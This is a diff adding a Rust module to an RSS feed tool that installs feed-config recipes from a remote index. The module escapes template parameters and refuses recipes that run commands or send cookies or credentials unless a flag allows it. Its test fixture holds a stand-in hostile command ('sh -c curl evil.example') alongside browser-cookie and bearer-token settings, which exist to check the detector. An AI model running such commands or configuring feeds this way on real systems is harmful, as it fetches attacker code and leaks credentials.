@@ -0,0 +1,281 @@
+use std::fs;
+use std::path::Path;
+
+use basic_toml as toml;
+use eyre::{bail, eyre, WrapErr};
+use log::{info, warn};
+use reqwest::Client as HttpClient;
+use serde::Deserialize;
+use simple_eyre::eyre;
+
+use crate::config::{validate_feeds, ChannelConfig, Config};
+use crate::feed::fetch_location;
+use crate::template;
+
+/// An index of feed config templates for known sites
+#[derive(Debug, Deserialize)]
+struct RecipeIndex {
+    #[serde(default)]
+    recipe: Vec<Recipe>,
+}
+
+#[derive(Debug, Deserialize)]
+struct Recipe {
+    name: String,
+    #[serde(default)]
+    description: String,
+    /// Names of the parameters that must be supplied to install the recipe
+    #[serde(default)]
+    params: Vec<String>,
+    /// One or more `[[feed]]` tables with `{param}` placeholders
+    template: String,
+}
+
+/// The feeds in a rendered recipe
+#[derive(Debug, Deserialize)]
+struct RecipeFeeds {
+    feed: Vec<ChannelConfig>,
+}
+
+/// Render the recipe `name` from the index configured in `config` with `params` and append it
+/// to the config file at `config_path`
+///
+/// The index may come from anywhere, so feeds that would run commands or send cookies,
+/// credentials, or items elsewhere are refused unless `allow_commands` is set.
+pub async fn install(
+    http: &HttpClient,
+    config: &Config,
+    config_path: &Path,
+    name: &str,
+    params: &[(String, String)],
+    allow_commands: bool,
+) -> eyre::Result<()> {
+    let index = config.rsspls.recipe_index.as_deref().ok_or_else(|| {
+        eyre!("recipe_index must be set in the rsspls section of the configuration file")
+    })?;
+    let (_, content) = fetch_location(http, index).await?;
+    let index: RecipeIndex = toml::from_str(&content)
+        .wrap_err_with(|| format!("unable to parse recipe index {index}"))?;
+    let recipe = index
+        .recipe
+        .iter()
+        .find(|recipe| recipe.name == name)
+        .ok_or_else(|| {
+            let names: Vec<_> = index
+                .recipe
+                .iter()
+                .map(|recipe| recipe.name.as_str())
+                .collect();
+            eyre!(
+                "no recipe named '{name}' in index, available recipes: {}",
+                names.join(", ")
+            )
+        })?;
+    info!("installing recipe {}: {}", recipe.name, recipe.description);
+
+    let rendered = render(recipe, params)?;
+    let feeds: RecipeFeeds = toml::from_str(&rendered)
+        .wrap_err_with(|| format!("recipe '{name}' did not produce valid feed configuration"))?;
+    validate_feeds(&feeds.feed)?;
+    let sensitive: Vec<_> = feeds
+        .feed
+        .iter()
+        .flat_map(|feed| {
+            sensitive_settings(feed)
+                .into_iter()
+                .map(move |setting| format!("{setting} in feed '{}'", feed.title))
+        })
+        .collect();
+    if !sensitive.is_empty() {
+        if !allow_commands {
+            bail!(
+                "recipe '{name}' sets {}, which can run commands or send cookies, credentials, or \
+                 items to other sites. Check them and pass --allow-commands to install it anyway.",
+                sensitive.join(", ")
+            );
+        }
+        warn!("recipe '{name}' sets {}", sensitive.join(", "));
+    }
+    for feed in &feeds.feed {
+        if config
+            .feed
+            .iter()
+            .any(|existing| existing.filename == feed.filename)
+        {
+            bail!(
+                "a feed with the filename {} is already configured",
+                feed.filename
+            );
+        }
+    }
+
+    let mut raw_config = fs::read_to_string(config_path).wrap_err_with(|| {
+        format!(
+            "unable to read configuration file: {}",
+            config_path.display()
+        )
+    })?;
+    if !raw_config.ends_with('\n') {
+        raw_config.push('\n');
+    }
+    raw_config.push('\n');
+    raw_config.push_str(rendered.trim());
+    raw_config.push('\n');
+    // Write through symlinks so that a linked config, e.g. from a dotfiles repo, stays linked
+    let config_path = &fs::canonicalize(config_path).unwrap_or_else(|_| config_path.to_owned());
+    // The file is replaced, so carry its permissions over to keep any secrets in it private
+    let permissions = fs::metadata(config_path).map(|meta| meta.permissions());
+    crate::write_atomically(config_path, raw_config.as_bytes())
+        .and_then(|()| {
+            permissions.and_then(|permissions| fs::set_permissions(config_path, permissions))
+        })
+        .wrap_err_with(|| {
+            format!(
+                "unable to write configuration file: {}",
+                config_path.display()
+            )
+        })?;
+    for feed in &feeds.feed {
+        info!("added feed '{}' ({})", feed.title, feed.filename);
+    }
+    Ok(())
+}
+
+/// The settings of `feed` that run commands, send cookies or credentials, or send its items to
+/// another site
+fn sensitive_settings(feed: &ChannelConfig) -> Vec<&'static str> {
+    [
+        ("render_command", feed.render_command.is_some()),
+        (
+            "transform_command",
+            !feed.config.transform_command.is_empty(),
+        ),
+        ("transform_url", feed.config.transform_url.is_some()),
+        ("headers", !feed.headers.is_empty()),
+        ("cookies", feed.cookies.is_some()),
+        ("cookies_from", feed.cookies_from.is_some()),
+        ("login", feed.login.is_some()),
+        ("auth", feed.config.auth.is_some()),
+    ]
+    .into_iter()
+    .filter_map(|(setting, set)| set.then_some(setting))
+    .collect()
+}
+
+/// Fill in the placeholders in the recipe template with `params`
+fn render(recipe: &Recipe, params: &[(String, String)]) -> eyre::Result<String> {
+    if let Some((unknown, _)) = params
+        .iter()
+        .find(|(param, _)| !recipe.params.contains(param))
+    {
+        bail!(
+            "recipe '{}' does not take a '{unknown}' parameter",
+            recipe.name
+        );
+    }
+    let missing: Vec<_> = recipe
+        .params
+        .iter()
+        .filter(|param| !params.iter().any(|(name, _)| name == *param))
+        .map(String::as_str)
+        .collect();
+    if !missing.is_empty() {
+        bail!(
+            "recipe '{}' requires parameters: {}",
+            recipe.name,
+            missing.join(", ")
+        );
+    }
+
+    Ok(template::render(&recipe.template, |name| {
+        params
+            .iter()
+            .find(|(param, _)| param == name)
+            .map(|(_, value)| escape_toml(value))
+    }))
+}
+
+/// Escape `value` for inclusion in a TOML basic string
+fn escape_toml(value: &str) -> String {
+    let mut escaped = String::with_capacity(value.len());
+    for c in value.chars() {
+        match c {
+            '"' => escaped.push_str("\\\""),
+            '\\' => escaped.push_str("\\\\"),
+            '\n' => escaped.push_str("\\n"),
+            '\t' => escaped.push_str("\\t"),
+            c if c.is_control() => escaped.push_str(&format!("\\u{:04X}", c as u32)),
+            c => escaped.push(c),
+        }
+    }
+    escaped
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_render() {
+        let index: RecipeIndex = toml::from_str(
+            r#"
+[[recipe]]
+name = "forum"
+params = ["user"]
+template = '''
+[[feed]]
+title = "Posts by {user}"
+filename = "forum-{user}.rss"
+
+[feed.config]
+url = "https://forum.example/u/{user}"
+item = "article"
+heading = "h2 a"
+'''
+"#,
+        )
+        .unwrap();
+        let recipe = &index.recipe[0];
+
+        let rendered = render(recipe, &[("user".to_string(), r#"a"b"#.to_string())]).unwrap();
+        let feeds: RecipeFeeds = toml::from_str(&rendered).unwrap();
+        assert_eq!(feeds.feed[0].title, r#"Posts by a"b"#);
+        assert_eq!(feeds.feed[0].config.url, [r#"https://forum.example/u/a"b"#]);
+
+        assert!(sensitive_settings(&feeds.feed[0]).is_empty());
+
+        assert!(render(recipe, &[]).is_err());
+        assert!(render(
+            recipe,
+            &[
+                ("user".to_string(), "a".to_string()),
+                ("other".to_string(), "b".to_string())
+            ]
+        )
+        .is_err());
+    }
+
+    #[test]
+    fn test_sensitive_settings() {
+        let feeds: RecipeFeeds = toml::from_str(
+            r#"
+[[feed]]
+title = "Posts"
+filename = "posts.rss"
+cookies_from = { browser = "firefox" }
+headers = { Authorization = "Bearer abc" }
+
+[feed.config]
+url = "https://forum.example/"
+item = "article"
+heading = "h2 a"
+transform_command = ["sh", "-c", "curl evil.example"]
+"#,
+        )
+        .unwrap();
+        assert_eq!(
+            sensitive_settings(&feeds.feed[0]),
+            ["transform_command", "headers", "cookies_from"]
+        );
+    }
+}